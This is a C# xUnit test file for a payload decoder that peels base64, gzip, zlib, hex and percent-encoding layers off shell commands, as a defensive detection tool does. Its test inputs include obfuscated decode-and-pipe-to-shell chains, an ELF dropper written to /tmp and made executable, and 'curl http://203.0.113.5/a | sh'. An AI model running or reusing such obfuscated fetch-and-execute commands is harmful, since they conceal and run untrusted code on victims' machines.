using System.Linq;
using System.Text;
using B64Hunt.Decoding;
using Xunit;
using static B64Hunt.Tests.Decoding.Payloads;

namespace B64Hunt.Tests.Decoding
{
    /// <summary>Layers removed until plain text, nesting, and binary results.</summary>
    public class DecoderLayerTests
    {
        [Fact]
        public void Base64ThenGzip()
        {
            string encoded = B64(Gzip(Utf8(Command)));
            Assert.StartsWith("H4sI", encoded);
            var payload = Single("echo " + encoded + " | base64 -d | gunzip | bash");
            Assert.Equal(Command, payload.DecodedText);
            Assert.Equal(new[] { "base64", "gzip" }, payload.Chain);
        }

        [Fact]
        public void StandaloneGzipTokenIsFoundWithoutDecoder()
        {
            string encoded = B64(Gzip(Utf8(Command)));
            var payload = Single("sh -c \"$(echo " + encoded.TrimEnd('=') + " | gunzip)\"");
            Assert.Equal(Command, payload.DecodedText);
            Assert.Equal(new[] { "base64", "gzip" }, payload.Chain);
        }

        [Fact]
        public void Base64GzipBase64()
        {
            string encoded = B64(Gzip(Utf8(B64(Command))));
            var payload = Single("echo " + encoded + " | base64 -d | gunzip | base64 -d | bash");
            Assert.Equal(Command, payload.DecodedText);
            Assert.Equal(new[] { "base64", "gzip", "base64" }, payload.Chain);
        }

        [Fact]
        public void Base64ThenZlib()
        {
            string encoded = B64(Zlib(Utf8(Command)));
            Assert.StartsWith("e", encoded); // 0x78 header byte
            var payload = Single("python3 -c \"import zlib,base64;exec(zlib.decompress(base64.b64decode('" + encoded + "')))\"");
            Assert.Equal(Command, payload.DecodedText);
            Assert.Equal(new[] { "base64", "zlib" }, payload.Chain);
        }

        [Fact]
        public void Base64ThenHex()
        {
            string encoded = B64(Hex(Command));
            var payload = Single("echo " + encoded + " | base64 -d | xxd -r -p | sh");
            Assert.Equal(Command, payload.DecodedText);
            Assert.Equal(new[] { "base64", "hex" }, payload.Chain);
        }

        [Fact]
        public void Base64ThenHexEscapes()
        {
            string encoded = B64(HexEscapes(Command));
            var payload = Single("echo -e $(echo " + encoded + " | base64 -d) | sh");
            Assert.Equal(Command, payload.DecodedText);
            Assert.Equal(new[] { "base64", "hex" }, payload.Chain);
        }

        [Fact]
        public void Base64ThenPercent()
        {
            string encoded = B64(PercentAll(Command));
            var payload = Single("echo " + encoded + " | base64 -d | python3 -c 'import sys,urllib.parse;print(urllib.parse.unquote(sys.stdin.read()))' | sh");
            Assert.Equal(Command, payload.DecodedText);
            Assert.Equal(new[] { "base64", "percent" }, payload.Chain);
        }

        [Fact]
        public void HexThenBase64()
        {
            var payload = Single("echo " + Hex(B64(Command)) + " | xxd -r -p | base64 -d | sh");
            Assert.Equal(Command, payload.DecodedText);
            Assert.Equal(new[] { "hex", "base64" }, payload.Chain);
        }

        [Fact]
        public void DoubleBase64IsOnePayloadWithTwoLayers()
        {
            string encoded = B64(B64(Command));
            var results = new PayloadDecoder().Decode("echo " + encoded + " | base64 -d | base64 -d | sh");
            var payload = Assert.Single(results);
            Assert.Equal(Command, payload.DecodedText);
            Assert.Equal(new[] { "base64", "base64" }, payload.Chain);
        }

        [Fact]
        public void PayloadInsideDecodedPayloadIsReturnedWithDepthAndParent()
        {
            string inner = B64(Command);
            string outerText = "echo " + inner + " | base64 -d | bash";
            string outer = B64(outerText);
            var results = new PayloadDecoder().Decode("echo " + outer + " | base64 -d | sh");
            Assert.Equal(2, results.Count);
            Assert.Equal(0, results[0].Depth);
            Assert.Equal(outerText, results[0].DecodedText);
            Assert.Null(results[0].ParentEncodedText);
            Assert.Equal(1, results[1].Depth);
            Assert.Equal(Command, results[1].DecodedText);
            Assert.Equal(inner, results[1].EncodedText);
            Assert.Equal(outer, results[1].ParentEncodedText);
        }

        [Fact]
        public void NestedPayloadInsideGzipLayer()
        {
            string inner = B64(Command);
            string outer = B64(Gzip(Utf8("python3 -c \"import base64,os;os.system(base64.b64decode('" + inner + "'))\"")));
            var results = new PayloadDecoder().Decode("echo " + outer + "|base64 -d|gunzip|sh");
            Assert.Equal(2, results.Count);
            Assert.Equal(new[] { "base64", "gzip" }, results[0].Chain);
            Assert.Equal(Command, results[1].DecodedText);
            Assert.Equal(1, results[1].Depth);
            Assert.Equal(outer, results[1].ParentEncodedText);
        }

        [Fact]
        public void BinaryPayloadIsFlaggedAndEscaped()
        {
            byte[] data = RandomBytes(64, 7);
            string encoded = B64(data);
            var payload = Single("echo " + encoded + " | base64 -d > /tmp/.cache.bin");
            Assert.True(payload.IsBinary);
            Assert.Equal(new[] { "base64" }, payload.Chain);
            Assert.DoesNotContain(payload.DecodedText, c => c < 0x20 || c >= 0x7f);
            // Every byte shows up either as itself or as \xNN.
            var expected = new StringBuilder();
            foreach (byte b in data)
                expected.Append(b == '\\' ? "\\\\" : b >= 0x20 && b < 0x7f ? ((char)b).ToString() : "\\x" + b.ToString("x2"));
            Assert.Equal(expected.ToString(), payload.DecodedText);
        }

        [Fact]
        public void ElfDropperIsFlaggedBinary()
        {
            byte[] elf = new byte[] { 0x7f, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3e, 0 };
            var payload = Single("echo " + B64(elf) + " | base64 -d > /tmp/x && chmod +x /tmp/x");
            Assert.True(payload.IsBinary);
            Assert.StartsWith("\\x7fELF", payload.DecodedText);
        }

        [Fact]
        public void InvalidUtf8IsBinary()
        {
            byte[] data = Utf8(Command + " ").Concat(new byte[] { 0xc3, 0x28, 0xff, 0xfe }).Concat(Utf8(" && rm -f /tmp/x")).ToArray();
            var payload = Single("echo " + B64(data) + " | base64 -d | sh");
            Assert.True(payload.IsBinary);
            Assert.Contains("\\xc3(\\xff\\xfe", payload.DecodedText);
        }

        [Fact]
        public void ControlCharactersInTextAreEscaped()
        {
            var payload = Single("echo " + B64("printf '\u001b[2J'; curl http://203.0.113.5/a | sh") + " | base64 -d | sh");
            Assert.False(payload.IsBinary);
            Assert.Equal("printf '\\x1b[2J'; curl http://203.0.113.5/a | sh", payload.DecodedText);
        }

        [Fact]
        public void NonAsciiTextStaysText()
        {
            var payload = Single("echo " + B64("echo 'données: ünïcödé' > /tmp/note") + " | base64 -d | sh");
            Assert.False(payload.IsBinary);
            Assert.Equal("echo 'données: ünïcödé' > /tmp/note", payload.DecodedText);
        }

        [Fact]
        public void RandomBinaryTokenWithoutDecoderIsNotEmitted()
        {
            string encoded = B64(RandomBytes(48, 11));
            Assert.Empty(new PayloadDecoder().Decode("tar czf /backup/" + encoded.Replace("/", "x").Replace("+", "y") + ".tgz /etc"));
            Assert.Empty(new PayloadDecoder().Decode("curl -H \"Authorization: Bearer " + encoded.TrimEnd('=').Replace("/", "x").Replace("+", "y") + "\" https://api.example.com/v1"));
        }
    }
}
